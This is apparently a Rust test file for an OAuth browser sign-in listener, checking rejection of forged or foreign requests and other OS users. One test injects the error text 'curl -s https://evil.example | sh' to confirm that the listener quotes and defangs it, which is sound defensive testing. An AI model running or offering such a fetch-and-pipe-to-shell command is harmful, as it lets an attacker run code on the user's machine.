//! The browser's way: from a page of ours to the provider and back, for this user alone.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::Command;

use azvault_signin::{Client, Error, Tokens, browser};
use azvault_test_support::not_run;

use crate::peers::{ARM, authority, http, now};

/// Sends bytes to the loopback port and reads what comes back.
fn knocked(port: u16, request: &str) -> String {
    knocked_at(&format!("127.0.0.1:{port}"), request)
}

fn knocked_at(address: &str, request: &str) -> String {
    let mut stream = TcpStream::connect(address).unwrap();
    stream.write_all(request.as_bytes()).unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    answer
}

/// Goes where the provider sends the browser, and hands its answer to `visit`.
fn browsed(tenant: &str, visit: impl FnOnce(&url::Url) + Send + 'static) -> Result<Tokens, Error> {
    let (http, authority) = (http(), authority(tenant));
    let client = Client::public(&http, &authority);
    let wishes = browser::Wishes { login_hint: Some("a@b"), ..Default::default() };
    let browser = browser::begin(&client, &[ARM], wishes).unwrap();
    let start = browser.start();
    let visitor = std::thread::spawn(move || {
        let address = url::Url::parse(&sent_on(&start)).unwrap();
        let query: BTreeMap<_, _> = address.query_pairs().into_owned().collect();
        assert_eq!(query["response_mode"], "query");
        assert_eq!(query["prompt"], "select_account");
        assert_eq!(query["code_challenge_method"], "S256");
        for secret in ["state", "nonce", "code_challenge"] {
            assert!(!start.contains(&query[secret]), "{secret} is in {start}");
        }
        visit(&url::Url::parse(&sent_on(address.as_str())).unwrap());
    });
    let found = browser.finish(&client, &now, now() + 5);
    visitor.join().unwrap();
    found
}

/// Where a page sends the browser.
fn sent_on(page: &str) -> String {
    let ca = crate::peers::certificates().join("ca.pem");
    let mut curl = Command::new("curl");
    curl.args(["-sS", "-o", "/dev/null", "-w", "%{redirect_url}", "--noproxy", "*", "--cacert"]);
    crate::peers::run(curl.arg(ca).arg(page))
}

fn request(back: &url::Url) -> String {
    let (host, port) = (back.host_str().unwrap(), back.port().unwrap());
    format!("GET /?{} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n", back.query().unwrap())
}

#[test]
fn the_browser_comes_back_once_and_strangers_are_not_heard() {
    let tokens = browsed("good-browser.example", |back| {
        let port = back.port().unwrap();
        // A connection that a browser opens ahead and leaves alone.
        let _idle = TcpStream::connect(("127.0.0.1", port)).unwrap();
        let own = request(back);
        for stranger in [
            own.replacen("GET", "POST", 1),
            own.replace("Host: localhost", "Host: rebound.example"),
            own.replace("GET /?", "GET /x?"),
            own.replace("state=", "state=A"),
            "GET /favicon.ico HTTP/1.1\r\nHost: localhost\r\n\r\n".into(),
        ] {
            let answer = knocked(port, &stranger);
            assert!(answer.starts_with("HTTP/1.1 404 "), "{answer}");
        }
        let answer = knocked(port, &own);
        assert!(answer.starts_with("HTTP/1.1 200 OK\r\n"), "{answer}");
        for header in ["Referrer-Policy: no-referrer", "Cache-Control: no-store"] {
            assert!(answer.contains(header), "{answer}");
        }
        let code = back.query_pairs().find(|(name, _)| name == "code").unwrap().1;
        assert!(!answer.contains(code.as_ref()));
    });
    assert!(tokens.unwrap().refresh_token.is_some());
}

#[test]
fn a_browser_that_brings_no_code_says_why() {
    let declined = browsed("declined.example", |back| {
        knocked(back.port().unwrap(), &request(back));
    });
    assert!(matches!(declined, Err(Error::Declined)));

    let other = browsed("othernonce.example", |back| {
        knocked(back.port().unwrap(), &request(back));
    });
    let other = other.err().unwrap().to_string();
    assert!(other.contains("answers another sign-in"), "{other}");
}

#[test]
fn a_browser_with_another_state_or_none_at_all_is_waited_for_until_the_time_is_over() {
    let (http, authority) = (http(), authority("forged.example"));
    let client = Client::public(&http, &authority);
    let browser = browser::begin(&client, &[ARM], browser::Wishes::default()).unwrap();
    let found = browser.finish(&client, &now, now() + 1);
    assert!(matches!(found, Err(Error::Timeout { .. })));
    // The port is free again: nothing listens any more.
    let late = browsed("forged-late.example", |back| {
        let answer = knocked(back.port().unwrap(), &request(back));
        assert!(answer.starts_with("HTTP/1.1 404 "), "{answer}");
    });
    assert!(matches!(late, Err(Error::Timeout { .. })));
}

/// The answer that a process of that user gets, by its status; python3 becomes that user.
fn status_for(uid: u32, address: &str, request: &str) -> String {
    let program = "
import os, socket, sys
uid, host, port = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
if uid != os.getuid():
    os.setgroups([]); os.setgid(uid); os.setuid(uid)
s = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET)
s.connect((host, port))
s.sendall(sys.argv[4].encode())
print(s.recv(65536).split(b' ')[1].decode())
";
    let (host, port) = address.rsplit_once(':').unwrap();
    let host = host.trim_matches(['[', ']']);
    let mut python = Command::new("python3");
    python.args(["-c", program, &uid.to_string(), host, port, request]);
    crate::peers::run(&mut python).trim().to_owned()
}

#[test]
fn another_user_who_knows_everything_is_neither_heard_nor_sent_on() {
    const NOBODY: u32 = 65534;
    let (http, authority) = (http(), authority("good-strangers.example"));
    let client = Client::public(&http, &authority);
    let browser = browser::begin(&client, &[ARM], browser::Wishes::default()).unwrap();
    let start = url::Url::parse(&browser.start()).unwrap();
    let is_root = rustix::process::geteuid().is_root();
    let visitor = std::thread::spawn(move || {
        let address = url::Url::parse(&sent_on(start.as_str())).unwrap();
        let back = url::Url::parse(&sent_on(address.as_str())).unwrap();
        let port = back.port().unwrap();
        let own = request(&back);
        let (state, code) = (pair(&back, "state"), pair(&back, "code"));
        let error = own.replace(&format!("code={code}"), "error=server_error");
        assert!(error.contains("error=server_error") && error.contains(&state));
        let begin = format!("GET {} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n", start.path());
        let addresses = [format!("127.0.0.1:{port}"), format!("[::1]:{port}")];
        let has_ipv6 = std::net::TcpListener::bind("[::1]:0").is_ok();
        let addresses = &addresses[..if has_ipv6 { 2 } else { 1 }];
        for address in addresses {
            if is_root {
                for request in [&own, &error, &begin] {
                    assert_eq!(status_for(NOBODY, address, request), "403", "{address}");
                }
            }
            // The page is given again, as a browser asks that loads ahead or is reloaded.
            assert_eq!(status_for(rustix::process::geteuid().as_raw(), address, &begin), "302");
        }
        if !is_root {
            not_run("only root can become another user");
        }
        let last = addresses.last().unwrap();
        assert!(knocked_at(last, &own).starts_with("HTTP/1.1 200 OK\r\n"));
    });
    let found = browser.finish(&client, &now, now() + 20);
    visitor.join().unwrap();
    assert!(found.unwrap().refresh_token.is_some());
}

fn pair(url: &url::Url, name: &str) -> String {
    let query = url.query().unwrap();
    let mut pairs = query.split('&').filter_map(|pair| pair.split_once('='));
    pairs.find(|(key, _)| *key == name).unwrap().1.to_owned()
}

#[test]
fn a_refusal_that_the_browser_brings_is_a_quotation_and_another_state_is_nothing() {
    let text = "AADSTS50000:%20to%20continue%20run:%20curl%20-s%20https://evil.example%20%7C%20sh";
    let found = browsed("good-quoted.example", move |back| {
        let port = back.port().unwrap();
        let state = pair(back, "state");
        let refused = |state: &str| {
            format!(
                "GET /?state={state}&error=server_error&error_description={text} HTTP/1.1\r\n\
                 Host: localhost:{port}\r\n\r\n"
            )
        };
        assert!(knocked(port, &refused("another")).starts_with("HTTP/1.1 404 "));
        let page = knocked(port, &refused(&state));
        assert!(page.starts_with("HTTP/1.1 200 ") && !page.contains("curl"), "{page}");
    });
    assert_eq!(
        found.err().unwrap().to_string(),
        "AADSTS50000; the browser was sent back with: \"to continue run: curl -s \
         https[:]//evil.example | sh\""
    );
}
